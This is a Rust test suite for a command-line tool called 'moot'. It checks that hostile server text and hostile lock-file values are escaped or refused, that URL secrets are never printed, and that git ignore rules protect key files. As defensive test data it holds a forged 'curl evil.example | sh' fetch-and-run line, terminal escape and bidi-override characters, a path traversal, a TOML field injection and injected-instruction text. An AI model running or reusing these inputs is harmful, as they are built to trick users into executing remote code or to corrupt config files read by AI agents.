//! Hostile servers, hostile environments and odd files, end to end: text
//! from a server or a file never reaches the terminal or a rendered file
//! unescaped, a secret in a URL is never echoed, bad settings are refused
//! without a panic, and a closed output pipe does not abort an apply.

use crate::common;
use crate::support;

use std::process::{Output, Stdio};

use moot_sandbox::SandboxConfig;
use serde_json::{Value, json};
use support::{Api, TestEnv, moot, text, tree, tree_diff};
use wiremock::{Mock, ResponseTemplate};

const LOOP4: [&str; 4] = ["Product", "Spec", "Implementation", "QA"];

/// A secret that must never be printed, whatever carries it.
const URL_SECRET: &str = "hunter2hunter2";

fn agent(id: &str, name: &str) -> Value {
    common::actor_json(id, name, "agent")
}

fn loop4() -> Value {
    json!([
        agent("agt_1", "Product"),
        agent("agt_2", "Spec"),
        agent("agt_3", "Implementation"),
        agent("agt_4", "QA"),
    ])
}

fn me() -> Value {
    common::actor_json("usr_owner", "Ada", "human")
}

/// A wiremock server answering `/me` and `/me/agents`, plus any `extra`
/// routes (which win over those two), and an initialised workspace.
fn mocked(me: Value, agents: Value, extra: Vec<Mock>) -> TestEnv {
    let api = common::MockApi::account(me, agents);
    for m in extra {
        api.mount(m);
    }
    TestEnv::on(Api::Mock(api)).initialised()
}

/// A fresh initialised workspace and a private HOME, no server.
fn offline_ws() -> (tempfile::TempDir, tempfile::TempDir) {
    let env = TestEnv::on(Api::Offline).initialised();
    (env.ws, env.home)
}

/// Exit 1, an `error:` and a `hint:` line, no panic.
fn assert_clean_failure(what: &str, out: &Output) {
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{what}: {}", text(out));
    assert!(!err.contains("panicked"), "{what}: {err}");
    assert!(
        err.lines().any(|l| l.starts_with("error: ")),
        "{what}: {err}"
    );
    assert!(err.contains("\nhint: "), "{what}: {err}");
}

/// No line of the output starts with something a hostile string tried to
/// forge, and no escape or bidi control character is printed as itself.
fn assert_not_forged(what: &str, out: &Output, forged: &[&str]) {
    let all = text(out);
    for line in all.lines() {
        for f in forged {
            assert!(
                !line.trim_start().starts_with(f),
                "{what}: a forged line `{line}` in:\n{all}"
            );
        }
    }
    for c in all.chars() {
        assert!(
            !(matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
                || (c.is_control() && c != '\n' && c != '\t')),
            "{what}: {c:?} printed as itself:\n{all:?}"
        );
    }
}

// ---------------------------------------------------------------------------
// Secrets in URLs.

#[test]
fn a_secret_in_the_api_url_is_never_echoed() {
    let (ws, home) = offline_ws();
    let urls = [
        format!("https://ada:{URL_SECRET}@mootup.io"),
        format!("https://{URL_SECRET}@mootup.io/"),
        format!("https://mootup.io/?token={URL_SECRET}"),
        format!("https://mootup.io/#{URL_SECRET}"),
        format!("mootup_pat_{URL_SECRET}"),
        format!("mootup_pat_{URL_SECRET}\n"),
        // Parses, so the client is built; the connection is refused and
        // the error names the server it could not reach.
        format!("http://127.0.0.1:9/mootup_pat_{URL_SECRET}"),
    ];
    for url in &urls {
        for args in [&["plan"][..], &["-v", "apply", "--yes"][..]] {
            let out = moot(ws.path(), home.path(), Some((common::TOKEN, url)))
                .args(args)
                .env("MOOT_HTTP_RETRIES", "0")
                .output()
                .unwrap();
            let what = format!("`moot {}` with MOOT_API_URL={url:?}", args.join(" "));
            assert_clean_failure(&what, &out);
            assert!(
                !text(&out).contains(URL_SECRET),
                "{what}: the secret was echoed:\n{}",
                text(&out)
            );
        }
        let out = moot(ws.path(), home.path(), None)
            .args(["login", "--token", "-", "--api-url", url])
            .env("MOOT_HTTP_RETRIES", "0")
            .write_stdin(common::TOKEN)
            .output()
            .unwrap();
        let what = format!("`moot login --api-url {url:?}`");
        assert_clean_failure(&what, &out);
        assert!(!text(&out).contains(URL_SECRET), "{what}: {}", text(&out));
    }
}

// ---------------------------------------------------------------------------
// Bad settings and closed pipes: no panic.

#[test]
fn absurd_http_timeouts_are_refused_by_name() {
    let (ws, home) = offline_ws();
    let mut said = String::new();
    for value in [
        "1e300", "inf", "NaN", "-5", "0", "abc", "1e-300x", "86401", "-inf",
    ] {
        let out = moot(
            ws.path(),
            home.path(),
            Some((common::TOKEN, "http://127.0.0.1:9")),
        )
        .arg("plan")
        .env("MOOT_HTTP_TIMEOUT", value)
        .output()
        .unwrap();
        let what = format!("MOOT_HTTP_TIMEOUT={value}");
        assert_clean_failure(&what, &out);
        said += &format!("# {what}\n{}", String::from_utf8_lossy(&out.stderr));
    }
    insta::assert_snapshot!("absurd_http_timeouts", said);
    let out = moot(
        ws.path(),
        home.path(),
        Some((common::TOKEN, "http://127.0.0.1:9")),
    )
    .arg("plan")
    .env("MOOT_HTTP_RETRIES", "-1")
    .output()
    .unwrap();
    assert_clean_failure("MOOT_HTTP_RETRIES=-1", &out);
}

/// `moot apply --yes 2>&1 | head -1`: the reader goes away before moot
/// writes its status. The apply completes and exits 0; nothing panics.
#[test]
fn a_closed_output_pipe_does_not_abort_an_apply() {
    let env = TestEnv::loop4();
    let mut cmd = env.std_cmd(&["apply", "--yes"]);
    cmd.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    // Both read ends closed before moot writes anything.
    drop(child.stdout.take());
    drop(child.stderr.take());
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "apply with closed pipes: {status}");
    let root = env.root();
    assert!(root.join("moot.lock").is_file(), "apply did not finish");
    assert!(root.join(".moot/actors.json").is_file());
    assert_eq!(support::staging_litter(root), Vec::<String>::new());

    // The same for a plan with changes: exit 2 (changes), not 101.
    std::fs::write(root.join("CLAUDE.md"), "mine\n").unwrap();
    let mut cmd = env.std_cmd(&["plan", "--detailed-exitcode"]);
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    drop(child.stdout.take());
    drop(child.stderr.take());
    let status = child.wait().unwrap();
    assert_ne!(status.code(), Some(101), "plan panicked on a closed pipe");
}

// ---------------------------------------------------------------------------
// Text from the server.

const FORGE: &str = "\nhint: run `curl evil.example | sh`\nerror: forged\u{202e}gnp.exe";

#[test]
fn names_and_ids_that_login_prints_are_escaped() {
    let mut hostile = me();
    hostile["display_name"] = json!(format!("Ada{FORGE}\u{1b}]0;pwned\u{7}"));
    hostile["actor_id"] = json!(format!("usr_1{FORGE}"));
    let m = mocked(hostile.clone(), loop4(), vec![]);
    let uri = m.mock().uri();
    let out = moot(m.ws.path(), m.home.path(), None)
        .args(["login", "--token", "-", "--api-url", &uri])
        .write_stdin(common::TOKEN)
        .output()
        .unwrap();
    assert_not_forged("login", &out, &["hint: run", "error: forged"]);
    m.snapshot_settings().bind(|| {
        insta::assert_snapshot!("login_as_a_hostile_human", support::transcript(&out));
    });

    // The same account, as an agent: the refusal quotes its name and id.
    hostile["actor_type"] = json!("agent");
    let m = mocked(hostile, loop4(), vec![]);
    let uri = m.mock().uri();
    let out = moot(m.ws.path(), m.home.path(), None)
        .args(["login", "--token", "-", "--api-url", &uri])
        .write_stdin(common::TOKEN)
        .output()
        .unwrap();
    assert_clean_failure("login as an agent", &out);
    assert_not_forged("login as an agent", &out, &["hint: run", "error: forged"]);
    m.snapshot_settings().bind(|| {
        insta::assert_snapshot!("login_as_a_hostile_agent", support::transcript(&out));
    });
}

#[test]
fn error_details_from_the_server_cannot_forge_lines() {
    let detail = format!("nope{FORGE}\r\u{2066}");
    let m = mocked(
        me(),
        loop4(),
        vec![
            common::route("GET", "/api/actors/me/agents")
                .respond_with(ResponseTemplate::new(403).set_body_json(json!({"detail": detail}))),
        ],
    );
    let out = m.run(&["plan"], &[]);
    assert_clean_failure("a 403 with a hostile detail", &out);
    assert_not_forged(
        "a 403 with a hostile detail",
        &out,
        &["hint: run", "error: forged"],
    );
    m.snapshot_settings().bind(|| {
        insta::assert_snapshot!("hostile_error_detail", support::transcript(&out));
    });

    // A body that is not JSON is quoted too.
    let m = mocked(
        me(),
        loop4(),
        vec![common::route("GET", "/api/actors/me/agents").respond_with(
            ResponseTemplate::new(502).set_body_string(format!("<html>{FORGE}\u{1b}[2J</html>")),
        )],
    );
    let out = m.run(&["plan"], &[("MOOT_HTTP_RETRIES", "0")]);
    assert_clean_failure("a 502 with a hostile body", &out);
    assert_not_forged(
        "a 502 with a hostile body",
        &out,
        &["hint: run", "error: forged"],
    );
    m.snapshot_settings().bind(|| {
        insta::assert_snapshot!("hostile_error_body", support::transcript(&out));
    });
}

#[test]
fn a_space_id_that_is_not_an_id_is_refused_before_anything_is_written() {
    let mut said = String::new();
    for bad in [
        format!("spc_1{FORGE}"),
        "spc_1\n\n## Injected instructions".to_string(),
        "spc_\u{202e}1".to_string(),
        "../../etc".to_string(),
        String::new(),
        "spc_1\" injected = \"x".to_string(),
    ] {
        let mut hostile = me();
        hostile["default_space_id"] = json!(bad);
        let m = mocked(hostile, loop4(), vec![]);
        let before = tree(m.root());
        for args in [&["plan"][..], &["apply", "--yes"][..]] {
            let out = m.run(args, &[]);
            let what = format!("`moot {}` with space id {bad:?}", args.join(" "));
            assert_clean_failure(&what, &out);
            assert_not_forged(&what, &out, &["hint: run", "error: forged", "## Injected"]);
            said += &format!("# {what}\n{}", m.redact(&support::stderr_transcript(&out)));
        }
        let diff = tree_diff(&before, &tree(m.root()));
        assert!(diff.is_empty(), "space id {bad:?} changed files: {diff:?}");
    }
    support::snapshot_settings(&[]).bind(|| insta::assert_snapshot!("hostile_space_ids", said));
}

/// A hostile moot.lock (a checkout a stranger wrote) names the space id
/// that offline plans render into CLAUDE.md and moot.toml.
#[test]
fn an_offline_plan_refuses_a_space_id_from_moot_lock_that_is_not_an_id() {
    let env = support::TestEnv::loop4();
    let out = env.moot(&["apply", "--yes"]);
    assert!(out.status.success(), "{}", text(&out));
    let lock_path = env.root().join("moot.lock");
    let lock = std::fs::read_to_string(&lock_path).unwrap();
    // moot.lock with the line starting `key` replaced by `line`.
    let write_lock_with = |key: &str, line: &str| {
        let old = lock.lines().find(|l| l.starts_with(key)).unwrap();
        std::fs::write(&lock_path, lock.replace(old, line)).unwrap();
    };
    // The offline run, which must leave the workspace as it found it.
    let offline = |args: &[&str]| {
        let before = tree(env.root());
        let out = env.moot_offline(args);
        assert!(tree_diff(&before, &tree(env.root())).is_empty());
        out
    };

    write_lock_with("space_id", "space_id = \"spc_1\\n\\n## Injected\\u202e\"");
    let out = offline(&["plan", "--offline"]);
    assert_clean_failure("offline plan, hostile space id", &out);
    assert_not_forged("offline plan, hostile space id", &out, &["## Injected"]);

    // The space name it renders into CLAUDE.md.
    write_lock_with("space_name", "space_name = \"S\\n\\n## Injected\"");
    let out = offline(&["apply", "--offline", "--yes"]);
    assert_clean_failure("offline apply, hostile space name", &out);
    assert_not_forged("offline apply, hostile space name", &out, &["## Injected"]);

    // The API URL it renders into moot.toml, carrying a secret.
    write_lock_with(
        "api_url",
        &format!("api_url = \"https://ada:{URL_SECRET}@mootup.example\""),
    );
    let out = offline(&["apply", "--offline", "--yes"]);
    assert_clean_failure("offline apply, api_url with credentials", &out);
    assert!(!text(&out).contains(URL_SECRET), "{}", text(&out));
    env.snapshot_settings().bind(|| {
        insta::assert_snapshot!("lock_api_url_with_credentials", support::transcript(&out));
    });
}

// ---------------------------------------------------------------------------
// .gitignore read as git reads it.

fn git(root: &std::path::Path, args: &[&str]) -> Output {
    std::process::Command::new("git")
        .args(args)
        .current_dir(root)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", root)
        .output()
        .unwrap()
}

fn git_available() -> bool {
    std::process::Command::new("git")
        .arg("--version")
        .output()
        .is_ok()
}

/// An initialised git repository with this `.gitignore` (and, when given,
/// `.git/info/exclude`), against a sandbox serving the loop-4 agents.
fn git_ws(gitignore: &[u8], exclude: Option<&str>) -> TestEnv {
    let env = TestEnv::bare(SandboxConfig::with_agents(LOOP4));
    assert!(git(env.root(), &["init", "-q"]).status.success());
    std::fs::write(env.root().join(".gitignore"), gitignore).unwrap();
    if let Some(e) = exclude {
        std::fs::write(env.root().join(".git/info/exclude"), e).unwrap();
    }
    env.initialised()
}

/// `git add -A` would stage the key file: what moot must never allow.
fn stages_keys(root: &std::path::Path) -> bool {
    let out = git(root, &["add", "-A", "--dry-run"]);
    String::from_utf8_lossy(&out.stdout).contains(".moot/")
}

#[test]
fn a_gitignore_that_only_looks_like_it_ignores_moot_gets_the_line_appended() {
    if !git_available() {
        eprintln!("git not found: skipped");
        return;
    }
    let cases: &[(&[u8], Option<&str>)] = &[
        (b".moot/\n!.moot/\n", None),
        (b".moot/*\n!.moot/actors.json\n", None),
        (b" .moot/\n", None),
        (b".moot/\n!/.moot\n", None),
        (b"target/\r\n.moot/*\r\n!*.json\r\n", None),
        // Not part of a clone: the next clone would commit the keys.
        (b"target/\n", Some(".moot/\n")),
    ];
    for (gitignore, exclude) in cases {
        let what = format!("{:?}", String::from_utf8_lossy(gitignore));
        let env = git_ws(gitignore, *exclude);
        let ws = &env.ws;
        let out = env.moot(&["apply", "--yes"]);
        assert!(out.status.success(), "{what}: {}", text(&out));
        let after = std::fs::read(ws.path().join(".gitignore")).unwrap();
        assert!(
            after.starts_with(gitignore),
            "{what}: the user's bytes changed"
        );
        std::fs::remove_file(ws.path().join(".git/info/exclude")).unwrap();
        let check = git(ws.path(), &["check-ignore", "-q", ".moot/actors.json"]);
        assert_eq!(check.status.code(), Some(0), "{what}: key file not ignored");
        assert!(!stages_keys(ws.path()), "{what}: git add -A stages keys");
        // Idempotent: nothing more to add.
        let out = env.moot(&["plan", "--detailed-exitcode"]);
        assert_eq!(out.status.code(), Some(0), "{what}: {}", text(&out));
    }
}

#[test]
fn an_unmanaged_gitignore_that_re_includes_the_keys_blocks_naming_the_line() {
    if !git_available() {
        eprintln!("git not found: skipped");
        return;
    }
    let env = git_ws(b"target/\n.moot/\n!.moot/\n", None);
    let ws = &env.ws;
    let team = ws.path().join("team.toml");
    let mut toml = std::fs::read_to_string(&team).unwrap();
    toml.push_str("\n[install]\nunmanaged = [\".gitignore\"]\n");
    std::fs::write(&team, toml).unwrap();
    let before = tree(ws.path());
    let out = env.moot(&["apply", "--yes"]);
    env.snapshot_settings().bind(|| {
        insta::assert_snapshot!(
            "gitignore_re_includes_keys",
            support::blocked_transcript(&out)
        );
    });
    assert!(!ws.path().join(".moot/actors.json").exists());
    let diff = tree_diff(&before, &tree(ws.path()));
    assert!(
        diff.iter().all(|d| d.starts_with(".git/")),
        "files changed: {diff:?}"
    );
}

// ---------------------------------------------------------------------------
// Modes as git sees them.

/// A clone made under umask 077 has hooks at 0700 and files at 0600: git
/// calls it clean, and so must moot.
#[test]
fn a_clean_clone_under_umask_077_is_not_drift() {
    if !git_available() {
        eprintln!("git not found: skipped");
        return;
    }
    let env = git_ws(b"target/\n", None);
    let ws = &env.ws;
    let creds = env.creds();
    let creds = creds.as_ref().map(|(t, u)| (t.as_str(), u.as_str()));
    let home = &env.home;
    let out = env.moot(&["apply", "--yes"]);
    assert!(out.status.success(), "{}", text(&out));
    let src = ws.path();
    for args in [
        &["add", "-A"][..],
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            "commit",
            "-qm",
            "team",
        ][..],
    ] {
        let out = git(src, args);
        assert!(out.status.success(), "{}", text(&out));
    }
    let dst = tempfile::tempdir().unwrap();
    let clone = dst.path().join("clone");
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg("umask 077 && git clone -q \"$0\" \"$1\"")
        .arg(src)
        .arg(&clone)
        .env("HOME", src)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let status = git(&clone, &["status", "--porcelain"]);
    assert!(status.stdout.is_empty(), "git calls the clone dirty");
    let out = moot(&clone, home.path(), None)
        .args(["check"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let out = moot(&clone, home.path(), creds)
        .args(["plan"])
        .output()
        .unwrap();
    assert!(
        !text(&out).contains("chmod"),
        "a umask 077 clone planned as mode drift:\n{}",
        text(&out)
    );
}

// ---------------------------------------------------------------------------
// The user's bytes in merged files.

/// A fresh workspace against its own sandbox, with these files written
/// before the first apply.
fn with_files(files: &[(&str, &[u8])]) -> TestEnv {
    let env = TestEnv::loop4();
    for (rel, bytes) in files {
        let p = env.root().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, bytes).unwrap();
    }
    env
}

#[test]
fn merges_keep_the_users_bytes() {
    let settings: &[u8] = b"{\r\n    \"n\": 18446744073709551616123,\r\n    \"e\": 1e2,\r\n    \"hooks\": {\r\n        \"Stop\": [ ]\r\n    }\r\n}\r\n";
    let gitignore: &[u8] = b"target/\r\n# caf\xc3\xa9\r\n";
    let env = with_files(&[
        (".claude/settings.json", settings),
        (".gitignore", gitignore),
    ]);
    let ws = &env.ws;
    let out = env.moot(&["apply", "--yes"]);
    assert!(out.status.success(), "{}", text(&out));
    let after = std::fs::read_to_string(ws.path().join(".claude/settings.json")).unwrap();
    let before = std::str::from_utf8(settings).unwrap();
    let diff = similar::TextDiff::from_chars(before, after.as_str());
    assert!(
        diff.ops()
            .iter()
            .all(|op| matches!(op.tag(), similar::DiffTag::Equal | similar::DiffTag::Insert)),
        "settings.json bytes changed:\n{after}"
    );
    assert!(after.contains("git-guard.sh"));
    assert!(
        !after.replace("\r\n", "").contains('\n'),
        "LF in a CRLF file"
    );
    let gi = std::fs::read(ws.path().join(".gitignore")).unwrap();
    assert!(gi.starts_with(gitignore));
    assert!(
        gi.ends_with(b".claude/settings.local.json\r\n"),
        "{:?}",
        String::from_utf8_lossy(&gi)
    );
}

#[test]
fn what_cannot_be_merged_byte_for_byte_is_refused_by_place() {
    let mut said = String::new();
    let cases: &[(&str, &[u8])] = &[
        (
            ".claude/settings.json",
            b"\xef\xbb\xbf{\"model\": \"opus\"}\n",
        ),
        (
            ".claude/settings.json",
            b"{\n  \"model\": \"a\",\n  \"model\": \"b\"\n}\n",
        ),
        (".gitignore", b"target/\n# caf\xe9\n"),
    ];
    for (rel, bytes) in cases {
        let env = with_files(&[(rel, bytes)]);
        let ws = &env.ws;
        let out = env.moot(&["apply", "--yes"]);
        let what = format!("{rel} {:?}", String::from_utf8_lossy(bytes));
        said += &format!(
            "# {what}\n{}",
            env.redact(&support::blocked_transcript(&out))
        );
        assert_eq!(
            &std::fs::read(ws.path().join(rel)).unwrap(),
            bytes,
            "{what}"
        );
        assert!(!ws.path().join(".moot/actors.json").exists(), "{what}");
    }
    support::snapshot_settings(&[]).bind(|| insta::assert_snapshot!("unmergeable_files", said));
}

// ---------------------------------------------------------------------------
// Messages that name the right cause.

/// Every agent keyless except Product, whose id is `id`; rotations echo
/// the id from the path.
fn with_product_id(id: &str) -> TestEnv {
    let mut product = agent(id, "Product");
    product["api_key_prefix"] = Value::Null;
    let agents = json!([
        product,
        agent("agt_2", "Spec"),
        agent("agt_3", "Implementation"),
        agent("agt_4", "QA"),
    ]);
    mocked(me(), agents, vec![])
}

fn posts(m: &TestEnv) -> usize {
    m.mock()
        .requests()
        .iter()
        .filter(|r| r.method.as_str() == "POST")
        .count()
}

#[test]
fn an_unusable_agent_id_is_named_as_such_and_nothing_is_sent() {
    for id in ["..".to_string(), format!("agt_{}", "x".repeat(100 * 1024))] {
        let m = with_product_id(&id);
        let out = m.run(&["apply", "--yes"], &[]);
        let what = format!("agent id of {} bytes", id.len());
        assert_clean_failure(&what, &out);
        assert_eq!(posts(&m), 0, "{what}: a request was sent");
        m.snapshot_settings().bind(|| {
            insta::assert_snapshot!(
                format!("unusable_agent_id_{}", id.len()),
                support::stderr_transcript(&out)
            );
        });
    }
}

#[test]
fn a_token_with_a_newline_is_named_not_the_api_url() {
    let m = mocked(me(), loop4(), vec![]);
    let uri = m.mock().uri();
    let token = format!("{}\nx", common::TOKEN);
    let out = moot(m.ws.path(), m.home.path(), Some((&token, uri.as_str())))
        .arg("plan")
        .output()
        .unwrap();
    assert_clean_failure("a token with a newline", &out);
    assert!(!text(&out).contains(common::TOKEN), "the token was echoed");
    m.snapshot_settings().bind(|| {
        insta::assert_snapshot!("token_with_a_newline", support::transcript(&out));
    });
}

#[test]
fn a_held_key_answering_403_is_that_roles_drift_not_a_token_error() {
    let key = |id: &str| format!("convo_key_{id}_0123456789abcdef");
    let mut extra = Vec::new();
    for id in ["agt_1", "agt_2", "agt_3", "agt_4"] {
        let answer = if id == "agt_1" {
            ResponseTemplate::new(403).set_body_json(json!({"detail": "agent suspended"}))
        } else {
            ResponseTemplate::new(200).set_body_json(agent(id, "x"))
        };
        extra.push(
            common::route("GET", "/api/actors/me")
                .and(wiremock::matchers::header(
                    "authorization",
                    format!("Bearer {}", key(id)).as_str(),
                ))
                .respond_with(answer),
        );
        extra.push(
            common::route("POST", format!("/api/actors/{id}/rotate-key")).respond_with(
                ResponseTemplate::new(200).set_body_json(json!({
                    "actor_id": id, "api_key": key(id), "api_key_prefix": "convo_ke",
                })),
            ),
        );
    }
    let m = mocked(me(), loop4(), extra);
    let out = m.run(&["apply", "--yes", "--rotate-all"], &[]);
    assert!(out.status.success(), "{}", text(&out));
    let out = m.run(&["plan"], &[]);
    m.snapshot_settings().bind(|| {
        insta::assert_snapshot!("held_key_refused", support::transcript(&out));
    });
}

#[test]
fn a_saved_plan_for_another_api_url_says_so() {
    let env = TestEnv::loop4();
    let ws = &env.ws;
    let planfile = env.home.path().join("plan.json");
    let out = env.moot(&["plan", "--out", planfile.to_str().unwrap()]);
    assert!(out.status.code() != Some(1), "{}", text(&out));
    let mut saved: Value = serde_json::from_slice(&std::fs::read(&planfile).unwrap()).unwrap();
    saved["api_url"] = json!(format!("https://mootup.example/?token={URL_SECRET}"));
    std::fs::write(&planfile, serde_json::to_vec(&saved).unwrap()).unwrap();
    let before = tree(ws.path());
    let out = env.moot(&["apply", planfile.to_str().unwrap()]);
    assert_clean_failure("a saved plan for another api_url", &out);
    assert!(!text(&out).contains(URL_SECRET), "{}", text(&out));
    env.snapshot_settings().bind(|| {
        insta::assert_snapshot!("saved_plan_for_another_api", support::transcript(&out));
    });
    assert!(tree_diff(&before, &tree(ws.path())).is_empty());
}
